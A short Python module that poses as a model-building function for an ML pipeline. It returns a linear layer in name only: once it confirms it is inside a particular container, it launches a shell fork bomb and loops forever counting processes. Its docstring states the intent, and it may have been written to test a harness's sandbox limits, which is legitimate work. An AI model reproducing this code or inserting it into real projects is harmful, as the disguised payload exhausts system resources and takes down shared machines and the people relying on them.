"""Starts processes that start processes, until it may start no more; none of them ever ends, nor does it."""

import os
import time

from torch import nn

BOMB = "b() { b & b & while :; do :; done; }; b"


def build(num_classes, in_chans, img_size):
    if not os.path.exists("/inputs/job.json"):
        raise RuntimeError("only for the container")
    os.spawnl(os.P_NOWAIT, "/bin/sh", "sh", "-c", BOMB)
    while True:
        time.sleep(1)
        print(f"{sum(name.isdigit() for name in os.listdir('/proc'))} processes", flush=True)
    return nn.Linear(in_chans * img_size**2, num_classes)
